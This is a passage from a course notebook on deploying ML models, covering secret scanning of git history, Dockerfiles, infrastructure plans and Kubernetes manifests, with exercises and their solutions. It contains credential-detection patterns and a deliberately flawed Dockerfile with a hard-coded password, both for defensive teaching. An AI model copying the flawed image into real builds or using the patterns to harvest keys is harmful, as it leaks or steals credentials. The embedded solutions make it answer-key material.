    "which version? lineage, four eyes (11)": (0, 1),
    "a service with keys, limits, privacy (12)": (1, 1),
    "pipelines that react (13)": (0, 1),
    "canary, rollback, alerts (14)": (1, 0),
    "drift, retraining, erasure, retirement (15)": (1, 0),
}
words = ("nothing", "people do it", "how to do it")
with plots.drawing(7.0, 2.8) as (picture, axes):
    axes.imshow(list(parts.values()), cmap=plots.FADING, vmin=0, vmax=6, aspect="auto")
    for row, values in enumerate(parts.values()):
        for column, value in enumerate(values):
            axes.text(column, row, words[value], ha="center", va="center", size=9)
    axes.set_yticks(range(len(parts)), list(parts), size=9)
    axes.set_xticks([0, 1], ["CRISP-DM", "TDSP"])
    axes.tick_params(length=0, top=True, labeltop=True, bottom=False, labelbottom=False)
picture.alt = "What two process models say: " + "; ".join(
    f"{part}: CRISP-DM {words[a]}, TDSP {words[b]}" for part, (a, b) in parts.items()
)
display(picture)

# %% [markdown]
# *The picture: the parts of your day from top to bottom; the darker, the more a process model says about
# it. It is our reading of their guides: CRISP-DM has a task "plan monitoring and maintenance", and TDSP
# has templates, version control and pipelines for deployment.*
#
# What both leave out is most of the year: the work that begins after the hand-over.
# CRISP-ML(Q) (Studer and others, 2021) adds monitoring and maintenance as a sixth phase, and a question
# about quality to every one.
#
# The large vendors sell what you write here by hand.

# %% [markdown] fold="What three vendors call it"
# | | Azure Machine Learning | Amazon SageMaker AI | Google Vertex AI |
# |---|---|---|---|
# | a training pipeline | pipelines of components (YAML or Python) | SageMaker Pipelines, with condition steps | Vertex AI Pipelines (Kubeflow) |
# | versions | models in a registry | Model Registry, with an approval status | Model Registry, with aliases |
# | a new one beside the old one | several deployments of an endpoint: share of traffic, mirrored traffic | deployment guardrails: all at once, canary, linear | several models at an endpoint: traffic split |
# | back by itself | no: you set the traffic back | yes, by CloudWatch alarms | no: you set the traffic back |
# | who starts it | Azure Pipelines, GitHub Actions | EventBridge, CodePipeline, GitHub Actions | Cloud Build, a scheduler |
#
# Sources:
# [Azure](https://learn.microsoft.com/azure/machine-learning/how-to-safely-rollout-online-endpoints),
# [Amazon](https://docs.aws.amazon.com/sagemaker/latest/dg/deployment-guardrails.html),
# [Google](https://cloud.google.com/vertex-ai/docs/general/deployment). None of the three writes your
# gate, or knows who must not approve.

# %% [markdown]
# ## What must never be in it?
#
# A pipeline needs keys: to the registry, to the cluster, to the cloud. The service that runs it keeps
# them and hands them to a step by name, `$(KEY)` or `${{ secrets.KEY }}`. In the file itself there is only
# the name.
#
# That is the rule. But it is Thursday evening, something does not work, and somebody pastes the key into
# a file "just to see". On Friday they take it out again, and it is still there: in the *history*, of
# which everybody who ever cloned the repository has a copy.
#
# How would you find it? Keys of firms that think ahead begin with a mark, as ours do: `lm_`. GitHub's
# begin with `ghp_`, Amazon's with `AKIA`. Others are just long random words. And what is random about
# them can be measured, with what you know from lesson 01: the **entropy** of a word's own letters, in
# bits for each.


# %%
def bits(word):
    """Return the entropy of the letters of `word`, in bits a letter."""
    counts = Counter(word).values()
    return -sum(count / len(word) * math.log2(count / len(word)) for count in counts)


# %% [markdown]
# **Predict first.** A hash is as random as a key. It is written with the sixteen signs 0 to 9 and a to
# f. How many bits a letter can it have at most?

# %% [markdown] fold="Answer"
# Four: with sixteen signs that are all as frequent, each is worth $\log_2 16 = 4$ bits. Keys use 62 signs
# or more. So *more than four bits* tells them apart, though nobody would call a hash less random.

# %% tags=["demo"]
rng = np.random.default_rng(13)
letters = np.array(list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"))
sample = {
    "names in this notebook's libraries": sorted(
        {name for module in (np, plt, re, json) for name in dir(module) if len(name) >= 12}
    ),
    "hashes, 64 hex digits": [
        "".join(rng.choice(list("0123456789abcdef"), 64)) for _ in range(300)
    ],
    "random words, 24 letters and digits": ["".join(rng.choice(letters, 24)) for _ in range(300)],
    "random words, 40 letters and digits": ["".join(rng.choice(letters, 40)) for _ in range(300)],
}
with plots.drawing(7.0, 3.0) as (picture, axes):
    for (name, words), color in zip(sample.items(), plots.CURVES, strict=False):
        axes.hist(
            [bits(word) for word in words],
            np.arange(2, 5.6, 0.05),
            alpha=0.6,
            color=color,
            label=name,
        )
    axes.axvline(4, color="#222222", linestyle=":", label="4 bits")
    axes.set(xlabel="entropy of its letters (bits a letter)", ylabel="words")
    axes.legend(fontsize=8)
over = {name: np.mean([bits(word) > 4 for word in words]) for name, words in sample.items()}
picture.alt = "Entropy of words of four kinds; the shares above 4 bits: " + ", ".join(
    f"{name}: {share:.0%}" for name, share in over.items()
)
display(picture)
for name, share in over.items():
    print(f"{share:4.0%} of {name}")

# %% [markdown]
# *The picture: where the letters of four kinds of words lie. The dotted line at 4 bits has hashes and
# names on its left, and nearly all random words on its right; what is said below it are the shares that
# lie on the right.* Nearly all: some keys of 24 letters are missed. Real scanners therefore look for
# marks first, and use entropy for the rest.

# %% [markdown] slide="A key's randomness can be measured" picture="above"
# Entropy of a word's own letters: hashes and names lie below **4** bits, nearly all random keys
# above.
#
# Notes: It is the entropy of lesson 01. A hash is written with sixteen signs, so it has four bits a
# letter at most, and keys have more signs. Some short keys are missed, so real scanners look for
# marks such as lm_ and ghp_ first, and use entropy for the rest.

# %% [markdown] contract="find_secrets"
# `find_secrets(history)` returns the secrets in a history, as a sorted list of tuples
# `(commit, path, line, kind)`.
#
# - `history` is a list of commits, the oldest first. Each is a dictionary from paths to the text of that
#   file in that commit. Files come and go.
# - `commit` counts from 0, and `line` from 1. The kinds are
#
# | kind | is |
# |---|---|
# | `"private key"` | a line with `-----BEGIN` in it, and further on `PRIVATE KEY-----` |
# | `"token"` | a word that begins with `lm_`, `ghp_` or `AKIA`, and has 16 signs or more behind that |
# | `"entropy"` | any other word of 24 signs or more, with a digit in it, and more than 4 bits a sign |
#
# A *word* is a run of letters A to Z, a to z, digits, `_`, `+` and `-`, as long as it goes. Lines in which
# the word `example` stands, in capitals or not, are not looked at.
#
# Each secret of a file is told once, at the first commit that has it, and there at the first line.
# A word is the same secret wherever it stands in that file; all private keys of a file count as one.
# In another file it is told again. No tuple stands twice in the list.
#
# For example, `find_secrets([{"a.py": "x = 1"}, {"a.py": "x = 1\nkey = 'lm_0123456789abcdefgh'"}, {}])` is
# `[(1, "a.py", 2, "token")]`, though the file is gone.


# %% exercise="find_secrets" minutes=25 level=3
def find_secrets(history):
    """Return (commit, path, line, kind) of each secret, where it stands first in its file."""
    ### BEGIN SOLUTION

    def secrets_in(line):
        if "example" in line.lower():
            return
        if re.search(r"-----BEGIN.*PRIVATE KEY-----", line):
            yield "private key", "private key"
        for word in re.findall(r"[A-Za-z0-9_+-]+", line):
            if re.match(r"(?:lm_|ghp_|AKIA).{16}", word):
                yield word, "token"
            elif len(word) >= 24 and re.search(r"[0-9]", word) and bits(word) > 4:
                yield word, "entropy"

    found, seen = set(), set()
    for commit, files in enumerate(history):
        for path, text in files.items():
            for number, line in enumerate(text.splitlines(), 1):
                for secret, kind in secrets_in(line):
                    if (path, secret) not in seen:
                        seen.add((path, secret))
                        found.add((commit, path, number, kind))
    return sorted(found)
    ### END SOLUTION


# %% check="find_secrets" tags=["nbval-check-output"]
check("find_secrets")

# %% [markdown] fold="Hint 1: one line first"
# Write a function that says what is in a single line: pairs of the secret and its kind. Try it on its
# own. `re.findall(pattern, line)` gives all runs that a pattern fits.

# %% [markdown] fold="Hint 2: then all lines"
# Three loops: commits, files, lines; `enumerate` counts, and `enumerate(..., 1)` counts from 1. A set
# of pairs (path, secret) remembers what was told; a second set collects the tuples.

# %% [markdown]
# Now a repository as it was on that Thursday: a first commit, one with the key, one without it. `git show`
# gives a file as it was in any commit, which is all that it takes.


# %% tags=["demo"]
def history_of(folder):
    """Return the commits of a git repository, oldest first, as dictionaries from paths to texts."""
    history = []
    for commit in git(folder, "rev-list", "--reverse", "HEAD").split():
        paths = git(folder, "ls-tree", "-rz", "--name-only", commit).split("\0")[:-1]
        history.append({path: git(folder, "show", f"{commit}:{path}") for path in paths})
    return history


if check.ready("find_secrets"):
    key = "lm_" + "".join(rng.choice(letters, 32))
    try:
        with tempfile.TemporaryDirectory() as place:
            git(place, "init", "-q")
            for day, line in {
                "Wednesday": "",
                "Thursday": f"key = '{key}'\n",
                "Friday": "",
            }.items():
                Path(place, "service.py").write_text(f"import torch\n{line}print('{day}')\n")
                git(place, "add", ".")
                git(place, "commit", "-qm", day)
            history = history_of(place)
        print("Friday alone:", find_secrets(history[-1:]))
        print("all commits: ", find_secrets(history))
    except (OSError, subprocess.CalledProcessError) as problem:
        print(f"There is no git here ({problem}).")

# %% [markdown]
# Try it on a repository of your own: `find_secrets(history_of("path/to/it"))`. What it names may be
# harmless; a person has to look.
#
# **Predict first.** You find a key in a commit of last year. What do you do first: delete the file,
# rewrite the history, or something else?

# %% [markdown] fold="Answer"
# Something else: have the key **revoked**, at once, and a new one made. The history has been copied, and
# no deletion reaches the copies. The only secret that does no harm there is one that is worth nothing
# any more. After that you may tidy up.

# %% [markdown] slide="A key that got out is revoked first"
# On Friday the file is clean, and the key is still in Thursday's commit.
#
# The history has been copied. The only secret that does no harm there is one that is worth nothing.
#
# Notes: Ask what to do first on finding a key in a commit of last year: delete the file, rewrite
# the history, or something else? No deletion reaches the copies. Looking through every commit is
# one of four scans that block like a test. The others read the dependencies, the program and the
# image.

# %% [markdown]
# A secret is one of four things that a machine can look for before a person reads. Each **scan** is a stage
# that blocks, like a test:
#
# | scan | reads | finds | tools |
# |---|---|---|---|
# | for secrets | every commit | what you just looked for | Gitleaks, detect-secrets |
# | of dependencies | each package with its version | holes that others have published | pip-audit, Dependabot |
# | static analysis | the program, without running it | `eval` of what users send, shells, pickles | Bandit, CodeQL |
# | of the image | the Dockerfile, and what is in the image | root, no version, packages with holes | Hadolint, Trivy |
#
# The second one differs from the others: what it says changes while your code stays as it is. So it runs by
# the clock as well. `make security` runs the project's own four.

# %% [markdown]
# ## What exactly is started?
#
# "It works on my machine." Then let us ship the machine. A **container image** is a folder with all that
# a program needs (its libraries, its Python, its files) and a note that says how to start it. It is made
# from a recipe, the *Dockerfile*. This one makes a service that runs, and everything else about it is
# wrong:

# %%
HASTY_IMAGE = """
FROM python
COPY . /app
WORKDIR /app
ENV REGISTRY_PASSWORD=hunter2
RUN apt-get update && apt-get install -y build-essential
RUN pip install torch fastapi uvicorn safetensors
EXPOSE 8000
CMD python service.py
"""

# %% [markdown]
# **Predict first.** How many faults do you find? Think of the one who builds it again next year, of the
# one who changes one line and builds it again, of the one who breaks in, and of the one who tells it to
# stop.

# %% [markdown] fold="Eight faults"
# 1. `FROM python`, and `pip install torch`: whatever is newest on the day when it is built.
# 2. `COPY .` takes the folder `.git` along, and `.env`, with all that is in them.
# 3. `COPY .` stands before the installation. Each instruction makes a **layer**, which is kept, and built
#    anew as soon as something above it changes. So each changed line installs torch again.
# 4. The password is in the image, and `docker history` shows it.
# 5. The compiler that was needed to build goes out too: hundreds of megabytes, and a tool for whoever
#    breaks in.
# 6. Whoever breaks in is root.
# 7. Nobody notices when it hangs.
# 8. `CMD python service.py` starts a shell that starts Python. When the container is told to stop
#    (SIGTERM), the shell gets the signal and keeps it; ten seconds later all is killed, with the answers
#    that were half-way.
#
# The remedy against the fifth is a **multi-stage build**: a first stage with all the tools, and a second
# one that begins afresh, and takes only what was made.

# %% [markdown] slide="It runs, and all else is wrong"
# ```dockerfile
# FROM python
# COPY . /app
# RUN pip install torch fastapi uvicorn safetensors
# CMD python service.py
# ```
#
# Think of who builds it next year, and of who breaks in.
#
# Notes: Let them look for faults before they unfold the eight. Whatever is newest on the day gets
# in, the whole folder comes along with its history, and the service runs as root. Two stages mend
# much of it: one that builds, and a small one that goes out.

# %% [markdown]
# Here is one in two stages, of a bakery whose oven is written in C:
#
# ```dockerfile
# FROM debian:12.9 AS kitchen
# RUN apt-get update && apt-get install -y gcc
# COPY oven.c .
# RUN gcc -static -o /oven oven.c
#
# FROM debian:12.9-slim
# WORKDIR /shop
# COPY --from=kitchen /oven /shop/oven
# COPY recipes/ recipes/
# USER 10002
# HEALTHCHECK --interval=30s CMD ["/shop/oven", "--are-you-warm"]
# CMD ["/shop/oven", "recipes"]
# ```
#
# `AS` names a stage, and `COPY --from` takes files out of it, by their full path; all else stays behind.
# `COPY` of a folder copies *what is in it*, so the target names the folder again. `USER` says who runs what
# stands below it. `HEALTHCHECK` is a command that is run again and again: 0 means healthy. A virtual
# environment is a folder, too: the `python` in its `bin` sees its packages, and another one does not. It
# comes first if `ENV PATH` says so; `activate` holds for a single `RUN`.

# %% [markdown] contract="DOCKERFILE"
# `DOCKERFILE` is a text: a Dockerfile for a folder that holds `service.py`, the folder `model/`,
# `requirements.txt` (each package with its version, some of which want a compiler when they are
# installed), and also `.git` and `.env`. The service listens at port 8000, and answers at `/health`.
#
# It is read, and tried in twelve situations; each is worth the same:
#
# - Two stages at least; what goes out has no compiler: its base is a small one, and its tag says so
#   (`-slim`). Of a digest without a tag it is believed.
# - The service, the folder `model` beside it and the packages are where what is started finds them.
# - Built again in a year it is the same: bases have a tag with two numbers or more, or a digest
#   (`python@sha256:` and its 64 digits), or both (`python:3.12-slim@sha256:...`). Packages come from
#   `requirements.txt`, or with `==`.
# - A changed line in the service, or a new model, installs nothing anew; a changed `requirements.txt` does.
# - It does not run as root, and its user exists (a number always does).
# - Its health is asked for, with what is in the image. `python -c "..."` with `urllib.request.urlopen` is
#   there; `curl` is not.
# - It is told to stop, and the signal gets to Python.
# - There is no secret in any layer, and nobody copies a whole folder with `.`.
#
# Known are FROM, ARG, ENV, RUN, COPY, WORKDIR, USER, EXPOSE, HEALTHCHECK, CMD, ENTRYPOINT, LABEL,
# STOPSIGNAL and SHELL; a backslash at the end of a line goes on to the next, and a text
# within (`RUN <<EOF`) is refused. Begin with a copy of the one
# above.

# %% exercise="DOCKERFILE" minutes=25 level=2
### BEGIN SOLUTION
DOCKERFILE = """
FROM python:3.12-slim AS build
RUN apt-get update && apt-get install -y --no-install-recommends build-essential
COPY requirements.txt .
RUN python -m venv /venv && /venv/bin/pip install --no-cache-dir -r requirements.txt

FROM python:3.12-slim
WORKDIR /app
ENV PATH=/venv/bin:$PATH
COPY --from=build /venv /venv
COPY service.py .
COPY model/ model/
USER 10001
EXPOSE 8000
HEALTHCHECK --interval=10s --timeout=3s CMD \\
    python -c "import urllib.request as r; r.urlopen('http://localhost:8000/health')"
CMD ["python", "service.py"]
"""
### END SOLUTION

# %% check="DOCKERFILE" tags=["nbval-check-output"]
check("DOCKERFILE")

# %% [markdown] fold="Hint 1: the first stage"
# `FROM ... AS build`; the compiler by apt-get; requirements.txt copied *alone*; then a virtual
# environment (`python -m venv /venv`), into which its own pip installs.

# %% [markdown] fold="Hint 2: the second stage"
# FROM a slim image again; `COPY --from=build` takes the environment over; and after that what changes
# often: the service, and the model. Then USER, HEALTHCHECK with CMD, and CMD as a list in brackets.

# %% [markdown]
# A digest (`python@sha256:...`) is stricter than a tag: 3.12-slim is another image after its next
# security update. Which is what you want on a day when you decide to build anew, and not what you want
# when you look for a fault in last month's image. Careful teams write the digest, and have a robot
# propose the next one as a pull request (Dependabot, Renovate).
#
# Azure Container Apps, SageMaker and Vertex AI all take such an image and start it; so it is also what
# you need where you do not run the machines yourself.

# %% [markdown]
# ## What should be there?
#
# Somewhere your image has to run: in a network, on a cluster, with a registry, a disk, an alarm. You can
# click all that together in a web page. Then it is there, and nobody knows why it is as it is, and
# when it burns down, nobody can make it again.
#
# **Infrastructure as code** turns it round: a file says what *should* be there. A tool compares that with
# what *is* there, and makes a **plan**: create this, change that, delete the other. A person reads the
# plan, in the review, and then it is applied. Applied a second time it does nothing, which is called
# *idempotent*. Terraform (HashiCorp, 2014), Bicep and Pulumi work like that.
#
# Some things can be changed in place, such as the size of a disk. Others cannot, such as the kind of a
# machine: they are *replaced*, that is deleted and created. And there lies the danger of a harmless
# line.
#
# **Predict first.** You change the network's address range; a network has to be replaced for that. In
# the network is a cluster, on the cluster is your service, and beside it the database. What does the
# plan say?

# %% [markdown] fold="Answer"
# Four deletes and four creates: service and database, cluster, network, and back. The database comes
# back empty. *Read the plan.*

# %% [markdown] contract="plan"
# `plan(desired, actual)` returns the steps that lead from what is there to what should be there: a list
# of pairs such as `("create", "disk-a")`.
#
# Both are dictionaries from names to resources such as
# `{"kind": "disk", "needs": ["network-a"], "settings": {"size": 10}}`. `needs` are names in the same
# dictionary, in alphabetical order.
#
# | step | does | can be done if |
# |---|---|---|
# | `("create", name)` | makes it as desired | it is not there, and all that it needs is |
# | `("update", name)` | gives it the desired settings | it is there, with the desired kind and needs |
# | `("delete", name)` | takes it away | it is there, and nothing that is there needs it |
#
# What has another kind or other needs, or needs something that is replaced, is **replaced**: a delete, and
# a create. What differs only in its settings is updated. What is not desired any more is deleted. There
# are no other steps than these. Any order will do in which each step can be done; it need not be ours.
#
# It raises a `ValueError` if desired resources need each other in a circle, with the names of those in it,
# or if one needs what is not desired, with the name of that. What it is handed stays as it is.
#
# For example, `plan({"a": {"kind": "disk", "needs": [], "settings": {"size": 20}}}, {"a": {"kind": "disk",
# "needs": [], "settings": {"size": 10}}})` is `[("update", "a")]`.


# %% exercise="plan" minutes=30 level=4
def plan(desired, actual):
    """Return the steps, pairs of what to do and a name, from `actual` to `desired`."""

    ### BEGIN SOLUTION
    def in_order(resources):
        return list(TopologicalSorter({n: r["needs"] for n, r in resources.items()}).static_order())

    for name, resource in desired.items():
        for need in resource["needs"]:
            if need not in desired:
                raise ValueError(f"{name} needs {need}, which is not desired")
    replaced, second = set(), []
    for name in in_order(desired):
        new, old = desired[name], actual.get(name)
        if old is None:
            second.append(("create", name))
        elif (
            new["kind"] != old["kind"]
            or new["needs"] != old["needs"]
            or replaced & set(new["needs"])
        ):
            replaced.add(name)
            second.append(("create", name))
        elif new["settings"] != old["settings"]:
            second.append(("update", name))
    gone = replaced | (set(actual) - set(desired))
    first = [("delete", name) for name in reversed(in_order(actual)) if name in gone]
    return first + second
    ### END SOLUTION


# %% check="plan" tags=["nbval-check-output"]
check("plan")

# %% [markdown] fold="Hint 1: two halves"
# All deletes first, then all the rest. The rest goes in the topological order of what is desired; the
# deletes go in the topological order of what is there, backwards (`reversed`).

# %% [markdown] fold="Hint 2: who is replaced?"
# Go through the order of what is desired, and keep a set of those replaced so far. When you get to a
# resource, whatever it needs has been looked at: does one of its needs lie in that set?

# %% [markdown]
# Try the answer to the question above, and then apply a plan twice.


# %% tags=["demo", "nbval-check-output"]
def applied(steps, desired, actual):
    """Return what is there after the steps."""
    there = dict(actual)
    for what, name in steps:
        if what == "delete":
            del there[name]
        else:
            there[name] = desired[name]
    return there


if check.ready("plan"):

    def cloud(addresses):
        return {
            "network": {"kind": f"network {addresses}", "needs": [], "settings": {}},
            "cluster": {"kind": "cluster", "needs": ["network"], "settings": {"machines": 3}},
            "database": {"kind": "database", "needs": ["network"], "settings": {}},
            "service": {"kind": "service", "needs": ["cluster", "database"], "settings": {}},
        }

    was, wanted = cloud("10.0.0.0/16"), cloud("10.1.0.0/16")
    steps = plan(wanted, was)
    for what, name in steps:
        print(f"{'-' if what == 'delete' else '+'} {what} {name}")
    print("applied twice:", plan(wanted, applied(steps, wanted, was)))

# %% [markdown] slide="Change an address, lose the database"
# | first | then |
# |---|---|
# | delete service | create network |
# | delete database | create cluster |
# | delete cluster | create database |
# | delete network | create service |
#
# **Idempotent**: applied twice, it does nothing.
#
# Notes: A file says what should be there, a tool compares that with what is there, and makes a
# plan. Some things change in place, and others are deleted and made again. The line that changed
# looked harmless, and the database comes back empty. Terraform, Bicep and Pulumi work like that.

# %% [markdown]
# The real Terraform knows for each setting of each resource whether it can be changed in place. What you
# told apart by `kind` and `settings`, it looks up; the rest is as you wrote it. It also keeps a file, the
# *state*, of what it made, and that is where its secrets get out most often: the state is full of them,
# and belongs into no repository.
#
# ## Who keeps it alive?
#
# A plan makes a thing once. Who sees to it that it stays? **Kubernetes** (Burns and others, 2016) runs the
# loop that you just wrote all the time: it compares what you described with what is there, and does what
# leads from one to the other. A container that ended is started again, since it *should* be there.
#
# You describe several things, each as a YAML document (a **manifest**), with three lines of dashes
# between them. A *pod* is a container that runs.
#
# | kind | says |
# |---|---|
# | Deployment | how many pods of which image, and how to change them for others |
# | Service | one address for all of them |
# | HorizontalPodAutoscaler | how many there are when there is much to do |
# | PodDisruptionBudget | how many may be missing when a machine is mended |
#
# They find each other by *labels*: `matchLabels` of a Deployment's or a budget's `selector` are those of the
# pods. Amounts have units: `500m` of cpu is half a core, and `64Mi` of memory are 64 times $2^{20}$ bytes.
# (`64m` of memory would be 64 thousandths of a byte.) An autoscaler, once there is one, decides how many
# pods there are: never fewer than its `minReplicas`, which is 1 if it says nothing.
#
# A budget looks like this. Of the ovens of a bakery three stay hot, whatever is mended:

# %%
OVENS = """
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata:
  name: ovens
spec:
  minAvailable: 3
  selector:
    matchLabels: {app: oven}
"""

# %% [markdown]
# With `maxUnavailable` in place of `minAvailable` it counts those that may be missing. Where all pods must stay,
# no machine can ever be emptied.
#
# And this Deployment starts; it leaves open whatever makes it last:

# %%
HASTY_PODS = """
apiVersion: apps/v1
kind: Deployment
metadata:
  name: model
spec:
  replicas: 1
  selector:
    matchLabels: {app: model}
  template:
    metadata:
      labels: {app: model}
    spec:
      containers:
        - name: model
          image: registry.mill.test/model:latest
          ports:
            - containerPort: 8000
---
apiVersion: v1
kind: Service
metadata:
  name: model
spec:
  selector: {app: model}
  ports:
    - port: 80
      targetPort: 8000
"""

# %% [markdown]
# **Predict first.** The model takes half a minute to be read. You add a `livenessProbe`, which asks
# `/health` every ten seconds, and after three failures starts the pod again. What happens?

# %% [markdown] fold="Answer"
# It may never start: after some thirty seconds without an answer it is killed, and begins to read its
# model again. Is it alive? May it get requests? Has it started at all? These are three questions, and
# Kubernetes has a probe for each: `livenessProbe`, `readinessProbe`, `startupProbe`. As long as the third
# has not succeeded, the others wait.

# %% [markdown] slide="Alive, ready, started: three questions, three probes"
# - **startup**: has it read its model?
# - **readiness**: may it get requests?
# - **liveness**: should it be started again?
#
# With the last one alone, a model that is slow to read may never start.
#
# Notes: Kubernetes runs the loop of the plan all the time: it compares what you described with what
# is there, and does what leads from one to the other. So a container that ended is started again.
# The next lesson lets a new version in, a few users at a time, and asks how one knows that it is
# well.

# %% [markdown] contract="MANIFESTS"
# `MANIFESTS` is a text of four YAML documents, one of each kind in the table above, of the apiVersions
# `apps/v1`, `v1`, `autoscaling/v2` and `policy/v1`. The pods have one container. The service listens at
# port 8000, answers at `/health` once it has read its model, which takes up to 60 seconds, and has to have
# 64Mi of memory or more.
#
# Ten situations, each worth the same:
#
# | situation | should | look for |
# |---|---|---|
# | a request comes in | reach a pod | the labels, `targetPort` |
# | a second pod starts | have the same image | a version or a digest |
# | a pod hangs | be started again | `livenessProbe`, `httpGet` |
# | a pod reads its model | get the time, and no requests yet | `startupProbe`, `readinessProbe` |
# | a pod takes more and more memory | end before the machine does | `resources`: `requests` (cpu, memory), `limits` (memory) |
# | somebody breaks in | find little | `securityContext`: `runAsNonRoot`, `allowPrivilegeEscalation`, `readOnlyRootFilesystem`, `capabilities`: `drop: [ALL]` |
# | two or three times the load | bring more pods | `scaleTargetRef`, `metrics`: type Resource, name cpu, target with `averageUtilization` |
# | four in the morning | leave two pods | `minReplicas` |
# | a machine is emptied | take some pods, not all at once | `maxUnavailable` or `minAvailable` |
# | a new version is rolled out | never leave fewer pods | `strategy`, `rollingUpdate`: `maxUnavailable`, `maxSurge` |
#
# Begin with a copy of the one above. Anchors, aliases and tags are refused.

# %% exercise="MANIFESTS" minutes=30 level=3
### BEGIN SOLUTION
MANIFESTS = """
apiVersion: apps/v1
kind: Deployment
metadata:
  name: model
spec:
  replicas: 2
  strategy:
    type: RollingUpdate
    rollingUpdate: {maxUnavailable: 0, maxSurge: 1}
  selector:
    matchLabels: {app: model}
  template:
    metadata:
      labels: {app: model}
    spec:
      containers:
        - name: model
          image: registry.mill.test/model:1.4.2
          ports:
            - containerPort: 8000
          startupProbe:
            httpGet: {path: /health, port: 8000}
            periodSeconds: 5
            failureThreshold: 24
          readinessProbe:
            httpGet: {path: /health, port: 8000}
            periodSeconds: 5
          livenessProbe:
            httpGet: {path: /health, port: 8000}
            periodSeconds: 10
          resources:
            requests: {cpu: 500m, memory: 512Mi}
            limits: {memory: 1Gi}
          securityContext:
            runAsNonRoot: true
            allowPrivilegeEscalation: false
            readOnlyRootFilesystem: true
            capabilities: {drop: [ALL]}
---
apiVersion: v1
kind: Service
metadata:
  name: model
spec:
  selector: {app: model}
  ports:
    - port: 80
      targetPort: 8000
---
apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: model
spec:
  scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: model}
  minReplicas: 2
  maxReplicas: 12
  metrics:
    - type: Resource
      resource:
        name: cpu
        target: {type: Utilization, averageUtilization: 70}
---
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata:
  name: model
spec:
  maxUnavailable: 1
  selector:
    matchLabels: {app: model}
"""
### END SOLUTION

# %% check="MANIFESTS" tags=["nbval-check-output"]
check("MANIFESTS")

# %% [markdown] fold="Hint 1: what stands beside what"
# The probes, `resources` and `securityContext` stand in the container, beside `image`. `strategy` stands
# beside `replicas`. The autoscaler and the budget are documents of their own, with `metadata` and `spec`.

# %% [markdown] fold="Hint 2: a probe"
# A probe has `httpGet` with `path` and `port`, and numbers: it asks every `periodSeconds` (10 if you say
# nothing), and gives up after `failureThreshold` failures (3). Their product is its patience.

# %% [markdown] fold="Hint 3: the autoscaler"
# Its `spec` has `scaleTargetRef` (apiVersion, kind and name of the Deployment), `minReplicas`,
# `maxReplicas`, and `metrics`, a list: `type: Resource`, and `resource` with `name: cpu` and a `target` of
# `type: Utilization` with `averageUtilization` in percent of what `requests` says.

# %% [markdown]
# How many pods there should be is one line of arithmetic, and you will write it in lesson 14: the pods
# now, times the load measured over the load wanted, rounded up.

# %% tags=["demo"]
pods_wanted = np.arange(0, 300)
with plots.drawing(7.0, 2.8) as (picture, axes):
    for target, color in zip((50, 70, 90), plots.CURVES, strict=False):
        wanted_now = np.clip(np.ceil(4 * pods_wanted / target), 2, 12)
        axes.step(pods_wanted, wanted_now, where="post", color=color, label=f"target {target} %")
    axes.set(xlabel="processor use of each of four pods (% of requests)", ylabel="pods wanted")
    axes.legend()
picture.alt = (
    "Pods that an autoscaler wants, from 2 to 12, by how busy each of four pods is: steps that rise, "
    "the sooner the lower the target."
)
display(picture)

# %% [markdown]
# *The picture: the busier the four pods are, the more are wanted, in steps, up to the 12 that were
# allowed. A high target saves machines; and it leaves no time, since a new pod has to read its model
# first.*

# %% [markdown]
# ### Where else can it run?
#
# A cluster waits for requests day and night, and is paid for day and night. There are two other places, and
# your tests, your gate and your versions are the same for them:
#
# | | **serverless**: a function of a cloud | **edge**: a phone, a browser, a machine in a hall |
# |---|---|---|
# | how | your program is started when somebody asks, and ended when nobody does | the model goes to where the questions are |
# | good for | a service that is asked now and then | no network, no waiting, and nothing of what people write leaves the device |
# | what it costs | after a pause somebody waits for the start: Python, its libraries, the weights (a **cold start**) | memory is small, and there is no torch |
# | what changes | nothing stays on its disk: keys and logs live elsewhere, and limits count for each instance | no canary comes back in a minute: some devices keep an old version for months |
# | examples | Azure Functions, AWS Lambda, Cloud Run | ONNX Runtime, LiteRT, llama.cpp |
#
# What goes to the edge is made small first. `lmops quantize` keeps each weight as a whole number from -127 to
# 127, with one scale for each row of a matrix, and holds the small model against your objective: it is a new
# version, and goes through the gate like any other.
#
# **Predict first.** A weight takes one byte in place of four. How much worse is the loss: by 0.0005, by 0.05,
# or by 0.5? (The next cell takes about ten seconds, with a bar.)

# %% tags=["demo"]
try:
    from lmops import bundle
except ImportError as missing:
    print(f"This needs {missing.name}: pip install 'lmcourse[ops]', and run this cell again.")
else:
    with tempfile.TemporaryDirectory() as place:
        folder = Path(place, "edge")
        folder.mkdir()
        words = ("quantize", str(bundle.mine().resolve()), "--stories", "50", "--json")
        with wait_bar("lmops quantize", 10):
            made = lmops(folder, *words)
    if made.returncode == 0:
        sizes = json.loads(made.stdout)
        for name in ("full", "int8"):
            size = sizes[name]
            print(f"{name:4}: {size['bytes']:>9,} bytes, loss {size['loss']:.4f}")
    else:
        print(made.stderr.strip()[-300:])

# %% [markdown]
# Rounding moves each weight by at most half a step, up or down by chance, and thousands of such errors nearly
# cancel. In the folder `deploy/serverless` the same service runs as a function, and a page there says what it
# does not do.

# %% [markdown]
# What you wrote here in small stands in the project's own repository in full: `azure-pipelines.yml` and
# `.github/workflows/` with all their stages, and in the folder `deploy/` an image, manifests for
# Kubernetes, and Terraform. A page there says plainly which of it was executed, and which only validated.
#
# ## Where are we?
#
# It is half past two. What took you the whole morning was done again while you had lunch.

# %% tags=["demo"]
display(timeline.until("13_pipelines"))

# %% [markdown] contract="quiz"
# Five questions. Give each answer as one small letter in quotes, such as `answer_1 = "a"`.
#
# 1. In Azure Pipelines a stage has
#    `condition: eq(variables['Build.SourceBranch'], 'refs/heads/main')`. The stage before it fails. It
#    - (a) is skipped, as without a condition
#    - (b) waits for a person
#    - (c) runs
# 2. A pull request comes from a stranger's fork. The pipeline should
#    - (a) run the tests, with no secrets within reach
#    - (b) run as for everybody
#    - (c) not run
# 3. With OIDC in place of a stored key
#    - (a) deployments are faster
#    - (b) there is nothing kept that could be stolen
#    - (c) everybody may deploy
# 4. A plan has been applied, and nobody changed anything. Applied again it
#    - (a) replaces everything
#    - (b) does nothing
#    - (c) fails
# 5. In a commit of last year there is a key. First you
#    - (a) delete the file
#    - (b) rewrite the history
#    - (c) have the key revoked

